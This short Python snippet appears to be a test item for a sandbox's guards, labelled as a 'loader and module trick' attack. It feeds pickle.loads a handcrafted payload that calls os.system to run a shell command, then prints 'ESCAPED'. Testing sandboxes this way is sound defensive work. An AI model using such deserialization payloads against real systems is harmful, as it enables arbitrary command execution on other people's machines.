# attack: loader and module tricks
# stops: guards
# pickle.loads with __reduce__
import pickle
print(pickle.loads(b"cos\nsystem\n(S'id'\ntR."), "ESCAPED")
